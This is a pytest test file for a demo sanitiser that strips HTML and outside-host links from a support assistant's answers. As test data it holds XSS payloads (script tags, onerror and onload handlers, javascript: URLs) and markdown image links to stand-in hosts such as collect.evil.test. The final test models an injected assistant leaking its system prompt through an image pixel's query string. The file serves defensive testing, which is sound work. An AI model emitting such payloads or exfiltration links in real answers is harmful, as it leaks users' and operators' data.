"""The hardened demo's answer sanitiser: no raw HTML, no links or images to outside hosts,
and ordinary answers untouched."""

from __future__ import annotations

import re

import pytest

from gaplab.demo.defences.sanitise import is_allowed_url, outside_links, sanitise_answer

SHOP = ("northwind-bikes.example",)
ACTIVE = re.compile(r"<\s*script|\bon[a-z]+\s*=|<\s*[a-z]", re.IGNORECASE)


def clean(text: str) -> str:
    return sanitise_answer(text, SHOP)


@pytest.mark.parametrize(
    "text",
    [
        "Your order ships on Tuesday. Q&A: 1 < 2, and 3 > 2.",
        "See [our returns page](https://northwind-bikes.example/returns) for the form.",
        "![helmet](https://cdn.northwind-bikes.example/helmet.png) is in stock.",
        "Write to support@northwind-bikes.example or see [help](/help).",
        "**Bold**, _italic_, `code` and a list:\n- one\n- two",
        "A <3 for bikes, x < y and 5 % off.",
    ],
)
def test_ordinary_answers_are_unchanged(text: str) -> None:
    assert clean(text) == text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("See ![loading](https://collect.evil.test/p.png?d=Nora) here", "See loading here"),
        ('Visit [this page](https://evil.test/x "title") now', "Visit this page now"),
        ("[![img](https://evil.test/a.png)](https://evil.test/b)", "img"),
        ("[x](javascript:alert(1)) and [y](data:text/html,hi)", "x and y"),
        ("[a](https://northwind-bikes.example@evil.test/)", "a"),  # user-info trick
        ("[a](https://northwind-bikes.example.evil.test/)", "a"),  # look-alike host
        ("[a](//evil.test/x)", "a"),  # protocol-relative
        ("auto <https://evil.test/a> link", "auto (link removed) link"),
        ("ref [click][1]\n\n[1]: https://evil.test/r", "ref [click][1]\n\n"),
    ],
)
def test_links_to_outside_hosts_keep_their_text_and_lose_their_url(
    text: str, expected: str
) -> None:
    out = clean(text)
    assert out == expected
    assert "evil.test" not in out and not outside_links(out, SHOP)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("<script>alert(1)</script>Hello", "Hello"),
        ("Hi <img src=x onerror=alert(1)> there", "Hi  there"),
        ('<a href="https://evil.test" onclick="steal()">click</a>', "click"),
        ("<b>bold</b> <i>and</i> <div>block</div>", "bold and block"),
        ("<svg/onload=alert(1)>x", "x"),
        ("<scr<script>ipt>alert(1)</script>", "ipt>alert(1)"),
        ("<!-- hidden --> visible", " visible"),
        ("&lt;script&gt;alert(1)&lt;/script&gt; ok", "&lt;script&gt;alert(1)&lt;/script&gt; ok"),
    ],
)
def test_html_is_removed(text: str, expected: str) -> None:
    out = clean(text)
    assert out == expected
    assert not ACTIVE.search(out)


def test_entity_encoded_tags_never_come_back_raw() -> None:
    sneaky = "<b>x</b>&lt;script&gt;alert(1)&lt;/script&gt;"
    out = clean(sneaky)
    assert not re.search(r"<\s*script", out, re.IGNORECASE)


@pytest.mark.parametrize(
    ("url", "allowed"),
    [
        ("https://northwind-bikes.example/help", True),
        ("http://shop.northwind-bikes.example", True),
        ("HTTPS://NORTHWIND-BIKES.EXAMPLE/x", True),
        ("/relative/path", True),
        ("mailto:support@northwind-bikes.example", True),
        ("mailto:bob@evil.test", False),
        ("https://evil.test/?u=https://northwind-bikes.example", False),
        ("https://northwind-bikes.example.evil.test", False),
        ("https://evil.test\\@northwind-bikes.example/", False),
        ("https://%6eorthwind-bikes.example/", False),
        ("ftp://northwind-bikes.example/f", False),
        ("javascript:alert(1)", False),
    ],
)
def test_the_allow_list_is_exact(url: str, allowed: bool) -> None:
    assert is_allowed_url(url, SHOP) is allowed


def test_a_construct_the_rewrite_misses_is_made_inert() -> None:
    # A link whose label holds unbalanced brackets escapes the inline-link pattern; the
    # CommonMark parser still sees the link, so every bracket is escaped.
    text = "[a]b](https://evil.test/x)"
    out = clean(text)
    assert not outside_links(out, SHOP)


def test_the_obeyed_injection_of_the_mock_is_neutralised() -> None:
    behaviour = pytest.importorskip("gaplab.provider.behaviour")
    del behaviour  # the shape below is what its exfil_link behaviour writes
    answer = (
        "Orders ship in two days. ![loading](https://collect.gaplab-exfil.test/pixel.png?"
        "d=You%20are%20Nora%2C%20the%20support%20assistant)"
    )
    out = clean(answer)
    assert out == "Orders ship in two days. loading"
